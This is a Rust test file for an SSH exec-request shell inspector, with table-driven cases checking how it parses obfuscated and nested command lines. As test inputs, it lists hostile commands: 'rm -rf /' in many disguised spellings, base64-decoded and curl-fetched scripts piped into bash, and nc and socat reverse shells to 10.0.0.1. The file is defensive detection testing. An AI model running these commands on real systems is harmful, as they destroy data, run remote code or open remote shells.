//! Table-driven tests of shell command inspection for SSH exec requests.

use warden_inspect::shell::{inspect_exec, SshFacts, SshRequest};

fn programs(f: &SshFacts) -> Vec<&str> {
    f.commands.iter().map(|c| c.program.as_str()).collect()
}

/// (command line, programs in order, opaque, unparsed)
#[rustfmt::skip]
const CASES: &[(&str, &[&str], bool, bool)] = &[
    // plain commands, quoting, word rules
    ("rm -rf x", &["rm"], false, false),
    ("r''m -rf x", &["rm"], false, false),
    ("r\"\"m -rf x", &["rm"], false, false),
    ("\\rm -rf x", &["rm"], false, false),
    ("'rm' '-rf' x", &["rm"], false, false),
    ("/bin/rm --recursive --force x", &["rm"], false, false),
    ("./rm x", &["rm"], false, false),
    ("$'\\x72\\x6d' -rf x", &["rm"], false, false),
    ("$'\\162m' -rf x", &["rm"], false, false),
    ("rm -r -f x", &["rm"], false, false),
    ("rm \\\n -rf x", &["rm"], false, false),
    ("  rm   -rf   x  # a comment", &["rm"], false, false),
    // lists, pipelines, subshells, groups, control flow
    ("cd / && rm -rf x", &["cd", "rm"], false, false),
    ("ls; rm -rf x", &["ls", "rm"], false, false),
    ("false || rm -rf x", &["false", "rm"], false, false),
    ("sleep 1 & rm -rf x", &["sleep", "rm"], false, false),
    ("ls\nrm -rf x", &["ls", "rm"], false, false),
    ("ps aux | grep x | wc -l", &["ps", "grep", "wc"], false, false),
    ("(cd /; rm -rf x)", &["cd", "rm"], false, false),
    ("{ rm -rf x; }", &["rm"], false, false),
    ("if true; then rm -rf x; else ls; fi", &["true", "rm", "ls"], false, false),
    ("while true; do rm -rf x; done", &["true", "rm"], false, false),
    ("for f in a b; do rm -rf \"$f\"; done", &["rm"], true, false),
    ("case y in y) rm -rf x;; *) ls;; esac", &["rm", "ls"], false, false),
    ("f() { rm -rf x; }; f", &["rm", "f"], false, false),
    ("! rm -rf x", &["rm"], false, false),
    ("[ -d x ] && rm -rf x", &["[", "rm"], false, false),
    ("[[ -d x && -f y ]] && rm -rf x", &["[[", "rm"], false, false),
    // assignments and redirections
    ("FOO=1 rm -rf x", &["rm"], false, false),
    ("FOO=1 BAR='a b' rm -rf x", &["rm"], false, false),
    ("rm -rf x >/dev/null 2>&1", &["rm"], false, false),
    ("rm -rf x 2> err.log < /dev/null", &["rm"], false, false),
    ("X=1", &[], false, false),
    ("PATH=/tmp/evil ls", &["ls"], true, false),
    ("LD_PRELOAD=/tmp/x.so ls", &["ls"], true, false),
    // wrappers
    ("sudo rm -rf /", &["sudo", "rm"], false, false),
    ("sudo -u root -- rm -rf /", &["sudo", "rm"], false, false),
    ("sudo -iu postgres rm -rf /", &["sudo", "rm"], false, false),
    ("env FOO=1 rm -rf x", &["env", "rm"], false, false),
    ("env -i PATH=/x rm -rf x", &["env", "rm"], true, false),
    ("env -S 'rm -rf x'", &["env", "rm"], false, false),
    ("nohup rm -rf x &", &["nohup", "rm"], false, false),
    ("coproc rm -rf x", &["coproc", "rm"], false, false),
    ("rm -rf x &>/dev/null", &["rm"], false, false),
    ("sudo su", &["sudo", "su"], true, false),
    ("echo hi > >(sh)", &["sh", "echo"], true, false),
    ("nice -n 10 rm -rf x", &["nice", "rm"], false, false),
    ("timeout -s KILL 5 rm -rf x", &["timeout", "rm"], false, false),
    ("command rm -rf x", &["command", "rm"], false, false),
    ("command -v rm", &["command"], false, false),
    ("exec rm -rf x", &["exec", "rm"], false, false),
    ("busybox rm -rf x", &["busybox", "rm"], false, false),
    ("sudo nice nohup /bin/rm -rf x", &["sudo", "nice", "nohup", "rm"], false, false),
    ("stdbuf -oL rm -rf x", &["stdbuf", "rm"], false, false),
    ("chroot /srv rm -rf x", &["chroot", "rm"], false, false),
    ("xargs rm -rf < list", &["xargs", "rm"], true, false),
    ("find / -name x | xargs -0 -n 1 rm -f", &["find", "xargs", "rm"], true, false),
    ("find /tmp -mtime +7 -exec rm -rf {} \\;", &["find", "rm"], true, false),
    ("find /tmp -delete", &["find"], true, false),
    ("watch -n 1 'rm -rf x'", &["watch", "rm"], false, false),
    // nested shells
    ("bash -c 'rm -rf x'", &["bash", "rm"], false, false),
    ("sh -c \"cd / && rm -rf x\"", &["sh", "cd", "rm"], false, false),
    ("bash -lc 'rm -rf x'", &["bash", "rm"], false, false),
    ("sudo bash -c 'sh -c \"rm -rf x\"'", &["sudo", "bash", "sh", "rm"], false, false),
    ("su - root -c 'rm -rf x'", &["su", "rm"], false, false),
    ("busybox sh -c 'rm -rf x'", &["busybox", "sh", "rm"], false, false),
    ("bash -c \"$CMD\"", &["bash", "$CMD"], true, false),
    ("bash script.sh", &["bash"], true, false),
    ("sudo -s", &["sudo"], true, false),
    // opaque: expansions, evaluation, decoding into shells, interpreters
    ("$(echo rm) -rf x", &["echo", "$(echo rm)"], true, false),
    ("`echo rm` -rf x", &["echo", "`echo rm`"], true, false),
    ("echo $(rm -rf x)", &["rm", "echo"], true, false),
    ("$CMD -rf x", &["$CMD"], true, false),
    ("${CMD} -rf x", &["${CMD}"], true, false),
    ("/bin/r? -rf x", &["r?"], true, false),
    ("=rm -rf x", &["=rm"], true, false),
    ("eval 'rm -rf x'", &["eval", "rm"], true, false),
    ("source ./x.sh", &["source"], true, false),
    (". ./x.sh", &["."], true, false),
    ("echo cm0gLXJmIHg= | base64 -d | sh", &["echo", "base64", "sh"], true, false),
    ("curl -s https://x/y.sh | bash", &["curl", "bash"], true, false),
    ("bash <(curl -s https://x/y.sh)", &["curl", "bash"], true, false),
    ("sh -c \"$(echo cm0gLXJmIHg= | base64 -d)\"", &["echo", "base64", "sh"], true, false),
    ("python3 -c 'import shutil; shutil.rmtree(\"x\")'", &["python3"], true, false),
    ("perl -e 'system(\"rm -rf x\")'", &["perl"], true, false),
    ("perl -ne 'print' file", &["perl"], true, false),
    ("ruby -e 'exit'", &["ruby"], true, false),
    ("node -e 'x'", &["node"], true, false),
    ("python3 manage.py migrate", &["python3"], false, false),
    ("python3", &["python3"], true, false),
    ("awk 'BEGIN { system(\"rm -rf x\") }'", &["awk"], true, false),
    ("awk '{ print $1 }' file", &["awk"], false, false),
    ("bash <<EOF\nrm -rf x\nEOF", &["bash", "rm"], true, false),
    ("sudo sh <<< 'rm -rf x'", &["sudo", "sh", "rm"], true, false),
    // expansions outside simple commands still run
    ("for f in $(rm -rf x); do echo; done", &["rm", "echo"], true, false),
    ("case $(rm -rf x) in y) ls;; esac", &["rm", "ls"], true, false),
    ("case a in $(rm -rf x)) ls;; esac", &["rm", "ls"], true, false),
    ("case a in a) ls;;", &[], false, true),
    // a here-string is not a here-document: the next line is a command
    ("cat <<< x\nrm -rf y", &["cat", "rm"], false, false),
    ("cat <<EOF\nrm -rf x\nEOF\nrm -rf y", &["cat", "rm"], false, false),
    ("cat <<EOF\n$(rm -rf x)\nEOF", &["cat"], true, false),
    ("cat <<'EOF'\n$(rm -rf x)\nEOF", &["cat"], false, false),
    ("x='a[$(id)]'; echo $((x))", &["echo"], true, false),
    ("trap 'rm -rf x' EXIT", &["trap"], true, false),
    ("{r,-rf,x}", &["{r,-rf,x}"], true, false),
    // arguments built by expansion can be any flag or path
    ("F=-rf; rm $F x", &["rm"], true, false),
    ("rm -rf /$EMPTY", &["rm"], true, false),
    ("rm -rf \"${DIR}\"", &["rm"], true, false),
    ("cd $HOME && ls", &["cd", "ls"], false, false),
    ("export PATH=/tmp:$PATH; ls", &["export", "ls"], true, false),
    // remote and code-in-option programs
    ("ssh db1 'sudo rm -rf /var/lib/pg'", &["ssh", "sudo", "rm"], false, false),
    ("ssh -p 2222 -i key db1 rm -rf x", &["ssh", "rm"], false, false),
    ("ssh db1", &["ssh"], true, false),
    ("ssh -o ProxyCommand='sh -c x' db1 ls", &["ssh", "ls"], true, false),
    ("kubectl -n prod exec web-0 -- rm -rf /data", &["kubectl", "rm"], false, false),
    ("kubectl get pods", &["kubectl"], false, false),
    ("docker exec -u root web rm -rf /data", &["docker", "rm"], false, false),
    ("nc -e /bin/sh 10.0.0.1 4444", &["nc"], true, false),
    ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", &["socat"], true, false),
    ("tar --to-command='sh' -xf a.tar", &["tar"], true, false),
    ("tar -xf a.tar", &["tar"], false, false),
    ("rsync -e 'sh -c x' a b:", &["rsync"], true, false),
    ("echo 'rm -rf x' | at now", &["echo", "at"], true, false),
    ("git -c core.pager='rm -rf x' log", &["git"], true, false),
    ("vim -c '!rm -rf x' f", &["vim"], true, false),
    ("time -p rm -rf x", &["rm"], false, false),
    // unparsed
    ("echo 'unterminated", &[], false, true),
    ("echo \"unterminated", &[], false, true),
    ("echo $(unterminated", &[], false, true),
    ("echo `unterminated", &[], false, true),
    ("ls |", &[], false, true),
    ("&& ls", &[], false, true),
    ("ls )", &[], false, true),
    ("rm -rf x >", &[], false, true),
    ("ls\0; rm -rf x", &[], false, true),
];

#[test]
fn command_lines() {
    assert!(CASES.len() >= 40);
    let mut failures = Vec::new();
    for (line, progs, opaque, unparsed) in CASES {
        let f = inspect_exec(line);
        let got = (programs(&f), f.opaque, f.unparsed);
        let reasons_ok = !(f.opaque || f.unparsed) || !f.notes.is_empty();
        let ok = f.request == SshRequest::Exec
            && f.unparsed == *unparsed
            && (*unparsed || (got.0 == *progs && f.opaque == *opaque))
            && reasons_ok;
        if !ok {
            failures.push(format!(
                "{line:?}: want {progs:?} opaque={opaque} unparsed={unparsed}, got {got:?} notes={:?}",
                f.notes
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The command named `program` of a line.
fn command<'f>(f: &'f SshFacts, program: &str) -> &'f warden_inspect::shell::ShellCommand {
    f.commands
        .iter()
        .find(|c| c.program == program)
        .unwrap_or_else(|| panic!("no {program} in {f:#?}"))
}

#[test]
fn recursive_force_is_seen_however_it_is_spelled() {
    for line in [
        "rm -rf x",
        "rm -fr x",
        "rm -r -f x",
        "rm -Rf x",
        "rm -f -R x",
        "/bin/rm --recursive --force x",
        "rm --rec --force x",
        "rm --r --f x",
        "rm x -rf",
        "r''m -r''f x",
        "sudo rm -rf /",
        "bash -c 'rm -rf x'",
        "rm -{r,f} x",
        "rm {-rf,x}",
        "rm -rvf x",
    ] {
        let f = inspect_exec(line);
        let rm = command(&f, "rm");
        assert!(rm.has_flags("-rf"), "{line}: {rm:?}");
        assert!(rm.has_flags("-fr"), "{line}");
        assert!(rm.has_flags("-r -f"), "{line}");
        assert!(rm.has_flags("--recursive --force"), "{line}");
        assert!(rm.has_flags("-r"), "{line}");
    }
    let f = inspect_exec("rm -r x");
    assert!(!command(&f, "rm").has_flags("-rf"));
    let f = inspect_exec("rm -- -rf");
    assert!(!command(&f, "rm").has_flags("-rf"));
    let f = inspect_exec("cp -a src dst");
    assert!(command(&f, "cp").has_flags("-r"));
    let f = inspect_exec("chmod -r file");
    assert!(!command(&f, "chmod").has_flags("-R"));
    let f = inspect_exec("ls -la /");
    assert!(command(&f, "ls").has_flags("-al"));
    assert!(command(&f, "ls").has_flags("/"));
    assert!(!command(&f, "ls").has_flags("-R"));
}

#[test]
fn argv_redirects_and_via_are_recorded() {
    let f = inspect_exec("FOO=1 sudo -u app /usr/bin/rm -rf 'a b' > /dev/null 2>&1");
    let rm = command(&f, "rm");
    assert_eq!(rm.argv, ["/usr/bin/rm", "-rf", "a b"]);
    assert_eq!(rm.via, ["sudo"]);
    assert_eq!(rm.redirects, [">/dev/null", "2>&1"]);
    let f = inspect_exec("sudo bash -c 'nice rm -rf x'");
    assert_eq!(command(&f, "rm").via, ["sudo", "bash -c", "nice"]);
    let f = inspect_exec("echo \"a  b\"c 'd'\\ e");
    assert_eq!(command(&f, "echo").argv, ["echo", "a  bc", "d e"]);
}

#[test]
fn nesting_is_bounded() {
    let mut line = "rm -rf x".to_string();
    for _ in 0..10 {
        line = format!("sh -c {}", shell_quote(&line));
    }
    let f = inspect_exec(&line);
    assert!(f.opaque, "{f:#?}");
    let deep = format!("{}rm{}", "$(".repeat(500), ")".repeat(500));
    assert!(inspect_exec(&deep).opaque);
    let wrappers = format!("{}rm -rf x", "nohup ".repeat(500));
    assert!(inspect_exec(&wrappers).opaque);
}

#[test]
fn huge_inputs_are_bounded() {
    // A quadratic scan of the 200 000 braces would keep this test busy for minutes.
    let braces = format!("rm {}{{a,b}}", "{".repeat(200_000));
    assert!(inspect_exec(&braces).opaque);
    let long = "a".repeat(warden_inspect::shell::MAX_COMMAND_LEN + 1);
    assert!(inspect_exec(&long).unparsed);
    let many = "ls; ".repeat(20_000);
    assert_eq!(inspect_exec(&many).commands.len(), 20_000);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn channel_requests_other_than_exec() {
    let s = SshFacts::shell();
    assert!(s.interactive && s.request == SshRequest::Shell);
    let s = SshFacts::subsystem("sftp");
    assert_eq!(s.subsystem.as_deref(), Some("sftp"));
    let s = SshFacts::forwarding();
    assert!(s.forwarding);
    let s = warden_inspect::shell::inspect_interactive_line("rm -rf x");
    assert!(s.interactive && s.request == SshRequest::InteractiveLine);
    assert_eq!(programs(&s), ["rm"]);
}

#[test]
fn everyday_admin_lines_are_plain() {
    for line in [
        "systemctl restart nginx",
        "journalctl -u app --since '1 hour ago' | tail -n 50",
        "df -h; free -m; uptime",
        "tail -n 100 /var/log/syslog",
        "grep -rn 'timeout' /etc/nginx",
        "ls -la ~/ /var/log/*.log",
        "ps aux | grep [n]ginx",
        "psql -c 'select 1'",
        "kubectl get pods -o json | jq '.items[].metadata.name'",
        "echo $HOME",
        "du -sh /var/* | sort -h | tail",
        "awk -F: '{print $1}' /etc/passwd",
        "sed -i 's/a/b/' file",
        "tar czf /tmp/etc.tgz /etc",
        "scp -t /tmp",
        "git-upload-pack '/srv/repo.git'",
        "python3 --version",
        "cp -a /etc/nginx /tmp/nginx.bak && nginx -t",
    ] {
        let f = inspect_exec(line);
        assert!(!f.opaque && !f.unparsed, "{line}: {f:#?}");
        assert!(!f.commands.is_empty(), "{line}");
    }
}
